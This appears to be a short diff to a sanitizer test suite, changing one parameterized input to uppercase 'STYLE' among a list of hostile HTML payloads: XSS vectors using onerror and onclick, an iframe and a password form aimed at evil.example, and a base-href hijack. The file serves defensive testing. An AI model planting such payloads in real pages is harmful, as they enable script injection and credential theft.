@@ -38,7 +38,7 @@ it.each([
   '<iframe src="https://evil.example"></iframe>',
   '<form action="https://evil.example"><input name="password"></form>',
   '<style>body{display:none}</style>',
-  '<p style="position:fixed" class="x" id="content" onclick="alert(1)">a</p>',
+  '<p STYLE="position:fixed" class="x" id="content" onclick="alert(1)">a</p>',
   '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
   '<object data="x"></object><embed src="x">',
   '<base href="https://evil.example/">',
